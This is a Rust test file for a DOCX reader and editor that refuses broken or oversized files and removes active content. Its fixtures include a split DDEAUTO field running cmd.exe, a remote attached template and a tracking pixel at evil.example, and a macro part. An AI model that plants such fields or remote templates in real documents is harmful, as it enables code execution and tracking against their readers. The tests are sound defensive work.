//! Documents that are broken, that act by themselves, or that hold what may not be changed.

use super::make::{body, document, of_body, parts};
use super::{faults, holds, seen, stamp};
use crate::plan::every_kind;
use floodmark::ooxml::package::pack;
use floodmark::ooxml::{WordError, amend, read};
use floodmark::plan::change::Edit;

const R: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// The edit that puts one text in place of another.
fn edit(text: &str, old: &str, new: &str) -> Vec<Edit> {
    let at = text.find(old).unwrap();
    vec![Edit { range: at..at + old.len(), text: new.to_owned(), remark: Some("because & so".to_owned()) }]
}

#[test]
fn broken_documents_are_refused_with_a_remedy() {
    let good = document("# Plan\n\nWords.\n");
    let refused = |bytes: &[u8]| read(bytes).unwrap_err().to_string();
    assert!(refused(&good[..good.len() / 2]).contains("cut short or damaged"));
    assert!(refused(b"PK\x03\x04").contains("damaged"));
    assert!(refused(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1]).contains("password"));
    let without = |name: &str| {
        let all = parts(&good);
        let kept: Vec<(&str, Vec<u8>)> =
            all.iter().filter(|(n, _)| *n != name).map(|(n, b)| (n.as_str(), b.clone())).collect();
        pack(&kept).unwrap()
    };
    assert!(matches!(read(&without("word/document.xml")), Err(WordError::NoDocument)));
    assert!(matches!(read(&without("_rels/.rels")), Err(WordError::NoDocument)));
    let with = |xml: &str| of_body("", &[("word/document.xml", xml.as_bytes().to_vec())]);
    let w = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    for broken in [
        format!("<w:document {w}><w:body><w:p></w:body></w:document>"),
        format!("<w:document {w}><w:body>"),
        format!("<!DOCTYPE x [<!ENTITY a \"b\">]><w:document {w}><w:body/></w:document>"),
        format!("<w:document {w}>{}{}</w:document>", "<w:p>".repeat(1000), "</w:p>".repeat(1000)),
    ] {
        let told = refused(&with(&broken));
        assert!(told.contains("word/document.xml") && told.contains("line 1"), "{told}");
    }
    assert!(matches!(read(&with("<x:document xmlns:x=\"y\"/>")), Err(WordError::Unusual)));
    assert!(matches!(
        read(&with(&format!("<w:document {w}><w:body><w:p/></w:body></w:document>"))),
        Err(WordError::Empty)
    ));
    // A part that says it is huge.
    let bomb = of_body(&format!("<w:p><w:r><w:t>{}</w:t></w:r></w:p>", " ".repeat(64 * 1024 * 1024)), &[]);
    assert!(matches!(read(&bomb), Err(WordError::TooLarge { .. })));
}

#[test]
fn what_acts_by_itself_is_told_and_not_written() {
    let relations = format!(
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"{R}/styles\" Target=\"styles.xml\"/><Relationship Id=\"rId3\" Type=\"{R}/header\" Target=\"header1.xml\"/><Relationship Id=\"rId7\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/><Relationship Id=\"rId8\" Type=\"{R}/image\" Target=\"https://evil.example/pixel.png\" TargetMode=\"External\"/><Relationship Id=\"rId9\" Type=\"{R}/hyperlink\" Target=\"https://shop.example/\" TargetMode=\"External\"/><Relationship Id=\"rId10\" Type=\"{R}/settings\" Target=\"settings.xml\"/></Relationships>"
    );
    let settings = format!(
        "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"{R}\"><w:attachedTemplate r:id=\"rId1\"/><w:zoom w:percent=\"100\"/></w:settings>"
    );
    let of_settings = format!(
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"{R}/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"
    );
    let bytes = of_body(
        &body("# Plan\n\nVersion: 1.2\n"),
        &[
            ("word/_rels/document.xml.rels", relations.into()),
            ("word/vbaProject.bin", b"macros".to_vec()),
            ("word/settings.xml", settings.into()),
            ("word/_rels/settings.xml.rels", of_settings.into()),
        ],
    );
    let found = read(&bytes).unwrap();
    let told = found.warnings.join(" ");
    assert!(told.contains("macros") && told.contains("pixel.png") && told.contains("t.dotm"), "{told}");
    assert!(!told.contains("shop.example"), "a link waits for a person: {told}");
    let made = amend(&bytes, &edit(&found.text, "1.2", "1.3"), &stamp()).unwrap().bytes;
    let all = parts(&made);
    assert!(!all.contains_key("word/vbaProject.bin"));
    for (name, bytes) in &all {
        let text = String::from_utf8_lossy(bytes);
        assert!(!text.contains("evil.example") && !text.contains("vbaProject"), "{name}: {text}");
    }
    let text = |name: &str| String::from_utf8(all[name].clone()).unwrap();
    assert!(text("word/_rels/document.xml.rels").contains("shop.example"));
    assert!(!text("word/settings.xml").contains("attachedTemplate"));
    assert_eq!(read(&made).unwrap().warnings, [""; 0]);
    // Also where nothing else changes; and then there is nothing left to do.
    let clean = amend(&bytes, &[], &stamp()).unwrap().bytes;
    assert!(!parts(&clean).contains_key("word/vbaProject.bin"));
    assert_eq!(amend(&clean, &[], &stamp()).unwrap().bytes, clean);
}

#[test]
fn a_field_that_fetches_is_told_and_its_code_is_not_written() {
    // In two pieces, as who hides it writes it.
    let field = "<w:p><w:r><w:t xml:space=\"preserve\">Version: 1.2 </w:t></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe \"/k calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    let bytes = of_body(field, &[]);
    let found = read(&bytes).unwrap();
    assert!(found.warnings[0].contains("DDEAUTO"), "{:?}", found.warnings);
    let made = amend(&bytes, &edit(&found.text, "1.2", "1.3"), &stamp()).unwrap().bytes;
    let document = String::from_utf8(parts(&made)["word/document.xml"].clone()).unwrap();
    assert!(!document.contains("cmd.exe") && !document.contains("AUTO"), "{document}");
    assert_eq!(read(&made).unwrap().warnings, [""; 0]);
}

#[test]
fn a_field_is_left_to_a_person() {
    let field = "<w:p><w:r><w:t xml:space=\"preserve\">Version: </w:t></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DOCPROPERTY Version</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1.2</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    let bytes = of_body(field, &[]);
    let text = read(&bytes).unwrap().text;
    assert_eq!(text, "Version: 1.2\n");
    let made = amend(&bytes, &edit(&text, "1.2", "1.3"), &stamp()).unwrap();
    assert!(made.left[0].contains("1.3") && made.left[0].contains("change it in Word"), "{:?}", made.left);
    assert_eq!(read(&made.bytes).unwrap().text, text);
    let comments = String::from_utf8(parts(&made.bytes)["word/comments.xml"].clone()).unwrap();
    assert!(comments.contains("should read"), "{comments}");
    assert_eq!(faults(&made.bytes), [""; 0]);
}

#[test]
fn changes_of_others_are_read_as_accepted_and_stay_theirs() {
    let theirs = "w:author=\"Ana\" w:date=\"2026-01-01T00:00:00Z\"";
    let xml = format!(
        "<w:p><w:r><w:t xml:space=\"preserve\">Contain within </w:t></w:r><w:del w:id=\"1\" {theirs}><w:r><w:delText>90</w:delText></w:r></w:del><w:ins w:id=\"2\" {theirs}><w:r><w:t>60 minutes of detection</w:t></w:r></w:ins><w:r><w:t>.</w:t></w:r></w:p>"
    );
    let bytes = of_body(&xml, &[]);
    let text = read(&bytes).unwrap().text;
    assert_eq!(text, "Contain within 60 minutes of detection.\n");
    let made = amend(&bytes, &edit(&text, "60 minutes", "45 minutes or fewer"), &stamp()).unwrap().bytes;
    assert_eq!(read(&made).unwrap().text, "Contain within 45 minutes or fewer of detection.\n");
    assert_eq!(faults(&made), [""; 0]);
    let document = String::from_utf8(parts(&made)["word/document.xml"].clone()).unwrap();
    assert!(document.contains("<w:delText>90</w:delText>"), "{document}");
    // Ours stands beside theirs, so that each is accepted by itself.
    assert!(
        !document.contains("</w:del><w:ins w:id=\"4\"") || document.contains("</w:ins><w:commentRangeStart"),
        "{document}"
    );
}

#[test]
fn text_boxes_contents_and_frames_are_read_as_they_are_meant() {
    let toc = "<w:p><w:pPr><w:pStyle w:val=\"Verzeichnis1\"/></w:pPr><w:r><w:t>Contain 7</w:t></w:r></w:p>";
    let frame =
        format!("<w:tbl><w:tr><w:tc><w:tcPr/>{}</w:tc></w:tr></w:tbl>", body("## In a frame\n\n- A step\n"));
    let broken = "<w:p><w:r><w:t>First</w:t><w:br/><w:t>second &amp; third</w:t><w:tab/><w:t>* no mark</w:t></w:r></w:p>";
    let bytes = of_body(&format!("{}{toc}{frame}{broken}", body("# Plan\n")), &[]);
    let text = read(&bytes).unwrap().text;
    assert_eq!(
        seen(&text),
        ["h1: Plan", "h2: In a frame", "-1: A step", "p: First second & third * no mark"],
        "{text}"
    );
    holds(&bytes, &every_kind(), "frames");
}
